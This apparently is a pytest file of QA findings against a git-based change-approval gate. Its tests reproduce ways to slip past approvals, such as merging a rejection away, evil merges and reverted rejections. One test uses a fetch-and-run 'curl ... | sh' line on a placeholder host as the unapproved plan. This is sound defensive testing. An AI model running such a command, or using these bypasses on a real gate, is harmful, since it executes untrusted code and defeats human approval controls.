"""QA findings against the ledger gate (qa/ledger): each test states the expected behaviour in
its docstring and fails on the code as it is. Built on the real-team fixture (tests/gate/conftest.py)."""

from __future__ import annotations

import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import yaml

from tests.gate.conftest import POLICY, Clone, Team
from tests.gate.test_ledger import approved_on_main, codes, now_window


def _edit(clone: Clone, rid: str, change) -> None:
    path = clone.record_path(rid)
    data = yaml.safe_load(path.read_text())
    change(data)
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True))


def _now() -> str:
    return datetime.now(UTC).isoformat(timespec="seconds")


# --- 1. false positive: side-by-side approvals merged by the merge driver -------------------


def _side_by_side(team: Team) -> str:
    """A high-risk change (two approvals from ops), approved by alice and bob at the same time;
    bob's push is refused, he pulls (the merge driver combines the approvals), and pushes."""
    rita = team.rita
    rid = rita.new("Replace the disks", "--risk", "high")
    rita.ck("change", "submit", rid, "--push")
    for who in (team.alice, team.bob):
        who.git("fetch", "-q", "origin")
        who.git("checkout", "-q", "-B", f"change/{rid}", f"origin/change/{rid}")
    team.alice.ck("change", "approve", rid, "--push")
    team.bob.ck("change", "approve", rid)
    team.bob.git("pull", "-q", "--no-rebase", "origin", f"change/{rid}")
    team.bob.git("push", "-q", "origin", f"change/{rid}")
    assert yaml.safe_load(team.bob.record_path(rid).read_text())["status"] == "approved"
    return rid


def test_side_by_side_approvals_then_schedule_passes(team):
    """Two approvals given side by side and merged by the merge driver, then `change schedule`
    by the requester: every step was taken with the commands by the proper people, so both
    `check` and `check --base` pass."""
    rid = _side_by_side(team)
    rita = team.rita
    rita.git("fetch", "-q", "origin")
    rita.git("checkout", "-q", "-B", f"change/{rid}", f"origin/change/{rid}")
    rita.ck("change", "schedule", rid, "--push")
    pr = team.ci(f"change/{rid}")
    full = pr.check()
    based = pr.check("--base", "origin/main")
    assert full["ok"], full["problems"]
    assert based["ok"], based["problems"]
    # and the next step is not refused either
    rita.ck("change", "start", rid, "--force", "--reason", "test", code=0)


# --- 2. bypass under --base: a rejection hidden by `merge -s ours` --------------------------


def _rejection_merged_away(team: Team) -> tuple[str, Clone]:
    """alice approves on the change branch; bob rejects there; rita, whose branch is at alice's
    approval, merges bob's rejection with `git merge -s ours` (the file stays approved)."""
    rita = team.rita
    rid = rita.new()
    rita.ck("change", "submit", rid, "--push")
    team.approve_on_branch(team.alice, rid)
    approved = team.alice.git("rev-parse", "HEAD")
    bob = team.bob
    bob.git("fetch", "-q", "origin")
    bob.git("checkout", "-q", "-B", f"change/{rid}", f"origin/change/{rid}")
    bob.ck("change", "reject", rid, "--reason", "not this week", "--push")
    rita.git("fetch", "-q", "origin")
    rita.git("checkout", "-q", "-B", f"change/{rid}", approved)
    rita.git("merge", "-q", "-s", "ours", "-m", "Merge review", f"origin/change/{rid}")
    assert yaml.safe_load(rita.record_path(rid).read_text())["status"] == "approved"
    rita.git("push", "-q", "origin", f"change/{rid}")
    return rid, rita


def test_rejection_hidden_by_merge_ours_fails_with_base_too(team):
    """A rejection merged away with `merge -s ours` is final: `check --base` fails
    (approval-withdrawn) like `check` does."""
    rid, _rita = _rejection_merged_away(team)
    pr = team.ci(f"change/{rid}")
    full = pr.check(code=1)
    assert "approval-withdrawn" in codes(full)  # holds without --base
    based = pr.check("--base", "origin/main")
    assert not based["ok"], "check --base passes a change whose approval bob's rejection withdrew"
    assert "approval-withdrawn" in codes(based)


def test_rejection_hidden_by_merge_ours_stops_lifecycle_commands(team):
    """`change schedule` refuses (exit 4) a change whose only approval a rejection withdrew,
    even when the rejection was merged away with `merge -s ours`."""
    rid, rita = _rejection_merged_away(team)
    result = rita.ck("change", "schedule", rid, code=None)
    assert result.exit_code == 4, f"change schedule acted on a rejected change:\n{result.output}"


# --- 3. bypass: evil merges plant an in_progress version for final.recount ------------------


def _evil_merge(clone: Clone, name: str, rid: str, change) -> None:
    """A merge commit whose resolution edits the record (a hand-made merge: no event)."""
    here = clone.git("rev-parse", "--abbrev-ref", "HEAD")
    clone.git("checkout", "-q", "-b", name)
    clone.git("commit", "-q", "--allow-empty", "-m", f"{name}: nothing")
    clone.git("checkout", "-q", here)
    clone.git("merge", "-q", "--no-ff", "--no-commit", "-s", "ours", name)
    _edit(clone, rid, change)
    clone.git("commit", "-q", "-am", f"Merge {name}")


def test_plan_changed_before_start_is_not_covered_by_evil_merge(team):
    """An approval of plan A does not cover plan B executed afterwards: an in_progress version
    that only a merge commit wrote is not "the version that started", so a change edited before
    its proven start and then completed fails `check` (both modes) as not approved."""
    rid = approved_on_main(team)
    rita = team.rita
    rita.git("fetch", "-q", "origin")
    rita.git("checkout", "-q", "-B", "attack", "origin/main")

    def started(data):  # merge 1: the file says in_progress, plan A (what alice approved)
        data["status"] = "in_progress"

    def replanned(data):  # merge 2: back to approved, with plan B
        data["status"] = "approved"
        data["implementation"] = "curl https://example.org/x | sh"

    _evil_merge(rita, "side1", rid, started)
    _evil_merge(rita, "side2", rid, replanned)
    me = {"name": "Rita Requester", "email": "rita@example.org"}

    def start(data):
        data["status"] = "in_progress"
        data["history"].append({"status": "in_progress", "at": _now(), "by": me})

    def complete(data):
        data["status"] = "completed"
        data["outcome"] = {"result": "completed", "at": _now()}
        data["history"].append({"status": "completed", "at": _now(), "by": me})

    _edit(rita, rid, start)
    rita.git("commit", "-q", "-am", "start")
    _edit(rita, rid, complete)
    rita.git("commit", "-q", "-am", "complete")
    rita.git("push", "-q", "-f", "origin", "attack")
    pr = team.ci("attack")
    passing = [
        mode
        for mode, args in (("check", ()), ("check --base", ("--base", "origin/main")))
        if pr.check(*args)["ok"]
    ]
    assert not passing, f"plan B completed on alice's approval of plan A passes: {passing}"


# --- 4/5. a workspace in a subdirectory of the repository ------------------------------------


def _sub_team(root: Path) -> tuple[Path, Clone]:
    origin = root / "origin.git"
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(origin)], check=True)
    top = root / "rita"
    top.mkdir()
    subprocess.run(["git", "init", "-q", "-b", "main"], cwd=top, check=True)
    subprocess.run(["git", "remote", "add", "origin", str(origin)], cwd=top, check=True)
    (top / "README").write_text("infra monorepo\n")
    sub = top / "ops"
    sub.mkdir()
    rita = Clone(sub, "Rita Requester", "rita@example.org")
    rita.git("config", "user.name", rita.name)
    rita.git("config", "user.email", rita.email)
    rita.ck("init", str(sub))
    (sub / "changekit.yaml").write_text(POLICY)
    rita.git("add", "-A", ".")
    rita.git("add", "../README")
    rita.git("commit", "-q", "-m", "Team policy")
    rita.git("push", "-q", "origin", "HEAD:main")
    return origin, rita


def _sub_clone(root: Path, origin: Path, who: str, name: str, email: str, ref: str) -> Clone:
    top = root / who
    subprocess.run(["git", "clone", "-q", str(origin), str(top)], check=True)
    c = Clone(top / "ops", name, email)
    c.git("config", "user.name", name)
    c.git("config", "user.email", email)
    c.git("checkout", "-q", "-B", ref, f"origin/{ref}")
    return c


def test_subdirectory_workspace_reports_a_policy_change(tmp_path):
    """In a workspace in a subdirectory of the repository (ops/), a pull request that edits
    ops/changekit.yaml is reported as `policy-changed` by `check --base`, as at the top."""
    origin, rita = _sub_team(tmp_path)
    rita.git("checkout", "-q", "-b", "relax")
    policy = rita.path / "changekit.yaml"
    policy.write_text(
        policy.read_text().replace(
            '      - {email: bob@example.org, handle: "@bob"}\n',
            '      - {email: bob@example.org, handle: "@bob"}\n      - mallory@example.org\n',
        )
    )
    rita.git("commit", "-q", "-am", "mallory helps out")
    rita.git("push", "-q", "origin", "relax")
    ci = _sub_clone(tmp_path, origin, "ci", "CI", "ci@example.org", "relax")
    report = ci.check("--base", "origin/main")
    assert "policy-changed" in codes(report), report


def _sub_approved_then_typo(tmp_path):
    """Rita files and submits in the ops/ workspace, alice approves on the branch, rita fixes
    a typo in the title by hand and commits it (no trailer: the trailer chain breaks)."""
    origin, rita = _sub_team(tmp_path)
    rid = rita.new()
    rita.ck("change", "submit", rid, "--push")
    alice = _sub_clone(tmp_path, origin, "alice", "Alice Approver", "alice@example.org",
                       f"change/{rid}")  # fmt: skip
    alice.ck("change", "approve", rid, "--push")
    rita.git("fetch", "-q", "origin")
    rita.git("checkout", "-q", "-B", f"change/{rid}", f"origin/change/{rid}")
    _edit(rita, rid, lambda data: data.update(title="Upgrade the kernel (4.19)"))
    rita.git("commit", "-q", "-am", "title")
    return origin, rita, rid


def test_subdirectory_workspace_hand_fixed_typo_passes_with_base(tmp_path):
    """In a workspace in a subdirectory, the requester fixing a typo in the title by hand (an
    edit any requester may make) on an approved change passes `check --base`, as it does at the
    top of a repository (the fallback reads the file's own history)."""
    origin, rita, rid = _sub_approved_then_typo(tmp_path)
    rita.git("push", "-q", "origin", f"change/{rid}")
    ci = _sub_clone(tmp_path, origin, "ci", "CI", "ci@example.org", f"change/{rid}")
    assert ci.check()["ok"]  # holds without --base
    report = ci.check("--base", "origin/main")
    assert report["ok"], report["problems"]


def test_subdirectory_workspace_hand_fixed_typo_does_not_block_schedule(tmp_path):
    """In a workspace in a subdirectory, `change schedule` after the requester's hand-fixed
    title typo on an approved change acts (as at the top of a repository): the history proves
    the change approved."""
    _origin, rita, rid = _sub_approved_then_typo(tmp_path)
    result = rita.ck("change", "schedule", rid, code=None)
    assert result.exit_code == 0, result.output


# --- 6. crash: a control character in any commit's author name ------------------------------


def test_author_name_with_a_unit_separator_does_not_crash_the_gate(team):
    """A commit anywhere in the history (not even touching change_records/) whose author name
    contains \\x1f does not crash `check` (exit 70): the gate reports or ignores it."""
    approved_on_main(team)
    m = team.mallory
    m.git("pull", "-q", "origin", "main")
    (m.path / "README.md").write_text("hello\n")
    m.git("add", "README.md")
    m.git("commit", "-q", "-m", "docs", env={"GIT_AUTHOR_NAME": "Mal\x1forry"})
    m.git("push", "-q", "origin", "main")
    ci = team.ci()
    assert ci.check("--base", "origin/main~1", code=None)["ok"]  # the PR gate lets it through
    done = subprocess.run(
        [str(Path(__file__).parents[2] / ".venv" / "bin" / "changekit"), "-C", str(ci.path),
         "check"], capture_output=True, text=True,
    )  # fmt: skip
    assert done.returncode in (0, 1), done.stdout + done.stderr


# --- 7. --base passes a pull request that breaks main's gate for good ------------------------


def test_pr_gate_and_main_gate_agree_on_a_deleted_and_restored_record(team):
    """A pull request that deletes an approved record and adds it back byte for byte: what
    `check --base` says of the pull request is what `check` says of main once it is merged
    (here: the PR passes, so main must pass too; never a main that fails for good)."""
    rid = approved_on_main(team)
    rita = team.rita
    rita.git("fetch", "-q", "origin")
    rita.git("checkout", "-q", "-B", "tidy", "origin/main")
    path = rita.record_path(rid)
    text = path.read_bytes()
    rita.git("rm", "-q", str(path))
    rita.git("commit", "-q", "-m", "remove")
    path.write_bytes(text)
    rita.git("add", str(path))
    rita.git("commit", "-q", "-m", "restore")
    rita.git("push", "-q", "origin", "tidy")
    pr_ok = team.ci("tidy").check("--base", "origin/main")["ok"]
    rita.git("checkout", "-q", "main")
    rita.git("reset", "-q", "--keep", "origin/main")
    rita.git("merge", "-q", "--no-ff", "-m", "Merge tidy", "origin/tidy")
    rita.git("push", "-q", "origin", "main")
    main = team.ci().check()
    assert pr_ok == main["ok"], f"PR gate ok={pr_ok}, main gate after merge: {main['problems']}"


# --- 8. lead time counted from the first submission, whatever the window is now --------------


def test_window_moved_close_needs_the_lead_time_again(team):
    """An outage submitted 30 days ago for a window 40 days out, moved to tomorrow with
    `change edit` (approvals withdrawn) and approved again: `check` reports lead-time-too-short
    under `lead_time: 5d`, as `change reschedule` does when it refuses the same move."""
    rita = team.rita
    (rita.path / "changekit.yaml").write_text(POLICY + "lead_time: 5d\n")
    rita.git("commit", "-q", "-am", "outages need five days' notice")
    rita.git("push", "-q", "origin", "main")
    then = (datetime.now(UTC) - timedelta(days=30)).isoformat(timespec="seconds")
    rid = rita.new("Upgrade", "--outage", "--outage-minutes", "30",
                   window=now_window(hours_ahead=24 * 40, length=1))  # fmt: skip
    rita.ck("change", "submit", rid, "--push",
            env={"GIT_COMMITTER_DATE": then, "GIT_AUTHOR_DATE": then})  # fmt: skip
    team.approve_on_branch(team.alice, rid)
    rita.git("fetch", "-q", "origin")
    rita.git("checkout", "-q", "-B", f"change/{rid}", f"origin/change/{rid}")
    refused = rita.ck("change", "reschedule", rid, *now_window(hours_ahead=24, length=1),
                      code=None)  # fmt: skip
    assert refused.exit_code == 4 and "5d notice" in refused.output  # the CLI refuses the move
    # ...but `change edit` moves the window all the same (approvals withdrawn, submitted)
    start = datetime.now(UTC) + timedelta(hours=24)
    new = {"start": start, "end": start + timedelta(hours=1)}
    script = rita.path.parent / "move_window.py"
    script.write_text(
        "import re, sys\n"
        "p = sys.argv[1]\n"
        "t = open(p).read()\n"
        + "".join(
            f"t = re.sub(r'(\\n  {k}: ).*', r\"\\g<1>'{v.isoformat(timespec='seconds')}'\", t, count=1)\n"
            for k, v in new.items()
        )
        + "open(p, 'w').write(t)\n"
    )
    editor = rita.path.parent / "editor.sh"
    editor.write_text(f'#!/bin/sh\n"{sys.executable}" "{script}" "$1"\n')
    editor.chmod(0o755)
    edited = rita.ck("change", "edit", rid, env={"EDITOR": str(editor), "VISUAL": str(editor)})
    assert "approved -> submitted" in edited.output
    rita.git("push", "-q", "origin", f"change/{rid}")
    team.approve_on_branch(team.alice, rid)
    pr = team.ci(f"change/{rid}")
    for report in (pr.check(), pr.check("--base", "origin/main")):
        assert "lead-time-too-short" in codes(report), report


# --- 9. linear replay of parallel branches: an emergency's approval undoes its start ----------


def test_emergency_approved_in_parallel_with_its_start_stays_in_progress(team):
    """An emergency change: rita starts it while alice approves it from `submitted` on a review
    branch; rita merges the review (the merge driver names the status conflict; she keeps
    in_progress, alice's approval and both history entries). Both steps were allowed, so both
    checks pass, whichever parent comes first: the approval must not set the proven status
    back from in_progress to approved."""
    rita, alice = team.rita, team.alice
    rid = rita.new("Patch openssl now", "--type", "emergency", "--emergency-reason", "CVE",
                   window=now_window(hours_ahead=-0.5, length=3))  # fmt: skip
    rita.ck("change", "submit", rid, "--push")
    alice.git("fetch", "-q", "origin")
    alice.git("checkout", "-q", "-B", f"change/{rid}", f"origin/change/{rid}")
    rita.git("fetch", "-q", "origin")
    rita.git("checkout", "-q", "-B", f"change/{rid}", f"origin/change/{rid}")
    rita.ck("change", "start", rid, "--push")
    alice.ck("change", "approve", rid)
    alice.git("push", "-q", "origin", "HEAD:review")
    pulled = subprocess.run(["git", "pull", "-q", "--no-rebase", "origin", "review"],
                            cwd=rita.path, capture_output=True, text=True)  # fmt: skip
    assert pulled.returncode != 0 and "status" in pulled.stdout + pulled.stderr  # a real conflict
    path = rita.record_path(rid)
    ours = yaml.safe_load(rita.git("show", f"HEAD:change_records/{rid}.yaml"))
    review = yaml.safe_load(rita.git("show", f"MERGE_HEAD:change_records/{rid}.yaml"))
    ours["approvals"] = review["approvals"]
    ours["history"] += [h for h in review["history"] if h not in ours["history"]]
    path.write_text(yaml.safe_dump(ours, sort_keys=False))
    rita.git("add", str(path))
    rita.git("commit", "-q", "--no-edit")
    rita.git("push", "-q", "origin", f"change/{rid}")
    pr = team.ci(f"change/{rid}")
    for report in (pr.check(), pr.check("--base", "origin/main")):
        assert report["ok"], report["problems"]


# --- 10. --base: a trailer-less rejection reverted before the next changekit commit ----------


def test_hand_made_rejection_reverted_is_seen_with_base(team):
    """bob rejects by hand (e.g. in the forge's web editor: no Changekit-Record trailer); rita
    `git revert`s it and schedules with the command. The rejection is proven in the full
    history, so `check --base` reports approval-withdrawn like `check` does."""
    rita = team.rita
    rid = rita.new()
    rita.ck("change", "submit", rid, "--push")
    team.approve_on_branch(team.alice, rid)
    bob = team.bob
    bob.git("fetch", "-q", "origin")
    bob.git("checkout", "-q", "-B", f"change/{rid}", f"origin/change/{rid}")
    me = {"name": "Bob Approver", "email": "bob@example.org"}

    def reject(data):
        data["status"] = "rejected"
        data["rejection"] = {"by": me, "at": _now(), "reason": "not this week"}
        data["history"].append({"status": "rejected", "at": _now(), "by": me})

    _edit(bob, rid, reject)
    bob.git("commit", "-q", "-am", f"Reject {rid}")
    bob.git("push", "-q", "origin", f"change/{rid}")
    rita.git("fetch", "-q", "origin")
    rita.git("checkout", "-q", "-B", f"change/{rid}", f"origin/change/{rid}")
    rita.git("revert", "--no-edit", "HEAD")
    rita.ck("change", "schedule", rid, "--push")
    pr = team.ci(f"change/{rid}")
    assert "approval-withdrawn" in codes(pr.check(code=1))  # holds without --base
    based = pr.check("--base", "origin/main")
    assert "approval-withdrawn" in codes(based), based
